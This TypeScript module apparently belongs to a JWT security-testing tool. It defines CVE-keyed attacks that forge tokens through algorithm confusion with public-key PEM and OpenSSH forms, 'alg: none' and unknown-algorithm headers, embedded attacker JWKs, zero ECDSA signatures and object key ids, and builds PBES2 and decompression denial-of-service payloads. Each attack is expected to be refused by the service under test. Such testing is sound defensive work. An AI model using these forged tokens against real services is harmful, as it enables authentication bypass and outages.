import { createHash } from 'node:crypto'
import type { Attack, See } from '../attack.js'
import { base64url, hmacToken, type Json, keyToken, offer, take, wishes } from '../forge.js'
import { openSshForms, pkcs1Forms, spkiForms } from '../public-keys.js'
import type { PublicKey, Scene } from '../scene.js'
import { confused } from './algorithms.js'
import { encrypted } from './encodings.js'
import { ownKeyFor, specialSignatures } from './signatures.js'

const kidOf = (key: PublicKey) => [{ kid: key.kid }]
const kidOrNone = (key: PublicKey) => [{ kid: key.kid }, {}]

/** A published hole: what it was elsewhere, and would have been here. */
function cve(
  id: string,
  product: string,
  note: string,
  make: (scene: Scene, claims: Json) => Record<string, string>,
  needs: Attack['needs'] = ['a key-pair', 'public keys'],
): Attack {
  return {
    name: `${id} (${product})`,
    cve: id,
    note,
    expectation: 'refused',
    needs,
    run: (scene: Scene, see: See) => offer(scene, see, make(scene, wishes(scene))),
  }
}

function unsigned(header: Json, claims: Json): string {
  return `${base64url(header)}.${base64url(claims)}.`
}

/** PEM after white space, which a pattern for its first line does not see. */
const afterSpace = (key: PublicKey) => {
  const forms = [...spkiForms(key), ...pkcs1Forms(key)]
  return forms.filter(([name]) => name.includes('after'))
}

export const cveAttacks: Attack[] = [
  cve(
    'CVE-2015-9235',
    'jsonwebtoken',
    'A token with HS256 by the PEM of the published key would have been any user’s.',
    ({ keys }, claims) => confused(keys, claims, spkiForms, kidOf, [256, 384, 512]),
  ),
  cve(
    'CVE-2016-10555',
    'jwt-simple',
    'The header’s algorithm would have won over that of the key.',
    ({ keys }, claims) => confused(keys, claims, spkiForms, kidOrNone),
  ),
  cve(
    'CVE-2018-0114',
    'node-jose',
    'A key in the header would have been believed: anybody could have signed.',
    (_, claims) => {
      const tokens: Record<string, string> = {}
      for (const [alg, kind] of Object.entries({ RS256: { kty: 'RSA' }, ES256: { kty: 'EC' } })) {
        const { privateKey, publicKey } = ownKeyFor(kind)
        const jwk = publicKey.export({ format: 'jwk' })
        tokens[alg] = keyToken({ typ: 'JWT', alg, jwk: { ...jwk, use: 'sig' } }, claims, privateKey)
      }
      return tokens
    },
    ['a key-pair'],
  ),
  cve(
    'CVE-2021-46743',
    'firebase/php-jwt',
    'With keys of several algorithms, the key id would have chosen the key and the header the algorithm.',
    ({ keys }, claims) => {
      const tokens = confused(keys, claims, spkiForms, kidOf)
      for (const key of keys) {
        for (const other of keys.filter(({ alg }) => alg !== key.alg)) {
          const { privateKey } = ownKeyFor(other)
          const header = { typ: 'JWT', alg: other.alg, kid: key.kid }
          tokens[`${other.alg} with the id of ${key.alg}`] = keyToken(header, claims, privateKey)
        }
      }
      return tokens
    },
  ),
  cve(
    'CVE-2022-21449',
    'Java, “psychic signatures”',
    'A signature of zeros would have been good for every token with ES256.',
    ({ keys }, claims) => {
      const tokens: Record<string, string> = {}
      for (const { kid, alg, kty } of keys) {
        if (kty !== 'EC') continue
        const input = `${base64url({ typ: 'JWT', alg, kid })}.${base64url(claims)}`
        for (const [name, bytes] of specialSignatures())
          tokens[name] = `${input}.${base64url(bytes)}`
      }
      return tokens
    },
  ),
  cve(
    'CVE-2022-23529',
    'jsonwebtoken',
    'An object for a key would have run its methods where a text was expected; here, as key id.',
    (_, claims) => {
      const values: unknown[] = [
        { toString: 'x' },
        { valueOf: 1 },
        [['x']],
        { length: 43 },
        { kid: 'x' },
      ]
      return Object.fromEntries(
        values.flatMap((kid) => [
          [`HS256 ${JSON.stringify(kid)}`, hmacToken({ alg: 'HS256', kid }, claims, '')],
          [`none ${JSON.stringify(kid)}`, unsigned({ alg: 'none', kid }, claims)],
        ]),
      )
    },
    ['a key-pair'],
  ),
  cve(
    'CVE-2022-23539',
    'jsonwebtoken',
    'A key would have been used with an algorithm that is not its own.',
    ({ keys }, claims) => {
      const tokens: Record<string, string> = {}
      for (const { kid, alg } of keys) {
        for (const other of [
          'RS256',
          'RS384',
          'RS512',
          'PS256',
          'PS512',
          'ES256',
          'ES384',
          'ES512',
        ]) {
          if (other === alg) continue
          const { privateKey } = ownKeyFor({ kty: other.startsWith('E') ? 'EC' : 'RSA' })
          tokens[`${other} for ${alg}`] = keyToken({ alg: other, kid }, claims, privateKey)
        }
      }
      return tokens
    },
  ),
  cve(
    'CVE-2022-23540',
    'jsonwebtoken',
    'A key id that finds nothing would have left no key, and with none of it every token is good.',
    (_, claims) => {
      const kids = ['unknown', 'A'.repeat(43), '', null]
      return Object.fromEntries(
        kids.flatMap((kid) => [
          [`none ${kid}`, unsigned({ alg: 'none', kid }, claims)],
          [`HS256 ${kid}`, hmacToken({ alg: 'HS256', kid }, claims, '')],
          [`HS256 undefined ${kid}`, hmacToken({ alg: 'HS256', kid }, claims, 'undefined')],
        ]),
      )
    },
    ['a key-pair'],
  ),
  cve(
    'CVE-2022-23541',
    'jsonwebtoken',
    'A look-up by key id would have handed a public key to the check of an HMAC.',
    ({ keys }, claims) => {
      const forms = (key: PublicKey) => [...spkiForms(key), ...pkcs1Forms(key)]
      return confused(keys, claims, forms, kidOf, [256, 384, 512])
    },
  ),
  cve(
    'CVE-2022-29217',
    'PyJWT',
    'A public key in the form of OpenSSH would have passed for a secret.',
    ({ keys }, claims) => confused(keys, claims, openSshForms, kidOrNone),
  ),
  cve(
    'CVE-2022-36083',
    'jose',
    'An encrypted token that asks for 2³¹ rounds of PBKDF2 would have kept the process busy for hours.',
    (_, claims) => pick(encrypted(claims), 'PBES2'),
    ['a key-pair'],
  ),
  cve(
    'CVE-2024-28176',
    'jose',
    'An encrypted token of a few kilobytes would have grown to gigabytes.',
    (_, claims) => pick(encrypted(claims), 'compressed'),
    ['a key-pair'],
  ),
  cve(
    'CVE-2023-48223',
    'fast-jwt',
    'A PEM that begins with “RSA PUBLIC KEY” would not have been known for a public key.',
    ({ keys }, claims) => confused(keys, claims, pkcs1Forms, kidOrNone, [256, 384, 512]),
  ),
  cve(
    'CVE-2026-34950',
    'fast-jwt',
    'White space before a PEM would have hidden that it is a public key.',
    ({ keys }, claims) => confused(keys, claims, afterSpace, kidOrNone),
  ),
  cve(
    'CVE-2024-33663',
    'python-jose',
    'ECDSA keys in the form of OpenSSH, and in DER, would have passed for secrets.',
    ({ keys }, claims) => {
      const curves = keys.filter(({ kty }) => kty !== 'RSA')
      const forms = (key: PublicKey) => [...openSshForms(key), ...spkiForms(key)]
      return confused(curves, claims, forms, kidOrNone)
    },
  ),
  cve(
    'CVE-2024-33664',
    'python-jose',
    'An encrypted token that is highly compressed would have filled the memory.',
    (_, claims) => encrypted(claims),
    ['a key-pair'],
  ),
  cve(
    'CVE-2025-30144',
    'fast-jwt',
    'A list of issuers with the right one among them would have been the right one. (Signed by our own tests; from outside it can only be tried with a signature that is none.)',
    (scene, claims) => {
      const { head, signature } = take(scene.tokens().access)
      const lists = [['https://attacker.sample.org', claims.iss], [claims.iss], [[claims.iss]]]
      return Object.fromEntries(
        lists.map((iss) => [
          JSON.stringify(iss),
          `${base64url(head)}.${base64url({ ...claims, iss })}.${signature}`,
        ]),
      )
    },
    ['a key-pair'],
  ),
  cve(
    'CVE-2026-22817',
    'Hono',
    'A published key that names no algorithm would have left the choice to the header.',
    ({ keys }, claims) => {
      const bare = keys.map(({ alg: _, ...key }) => key)
      return confused(bare, claims, (key) => [...spkiForms(key), ...secretTexts(key)], kidOrNone)
    },
  ),
  cve(
    'CVE-2026-23993',
    'HarbourJwt',
    'An algorithm that nobody knows would have made an empty signature, and an empty one is what came.',
    (scene, claims) => {
      const { head } = take(scene.tokens().access)
      const names = ['foo', 'zzz', 'HS257', 'hs256', 'XS256', 'None', '', 'HS256 ']
      return Object.fromEntries(
        names.flatMap((alg) => [
          [`"${alg}"`, unsigned({ ...head, alg }, claims)],
          [`"${alg}", without key id`, unsigned({ typ: 'JWT', alg }, claims)],
        ]),
      )
    },
    ['a key-pair'],
  ),
]

function pick(tokens: Record<string, string>, word: string): Record<string, string> {
  return Object.fromEntries(Object.entries(tokens).filter(([name]) => name.includes(word)))
}

/** What a JWK leaves in the hands of an implementation that turns it into a text. */
function secretTexts(key: PublicKey): [string, Buffer][] {
  const text = JSON.stringify(key)
  return [
    ['JWK', Buffer.from(text)],
    ['its hash', createHash('sha256').update(text).digest()],
    ['an object in words', Buffer.from('[object Object]')],
    ['a CryptoKey in words', Buffer.from('[object CryptoKey]')],
  ]
}
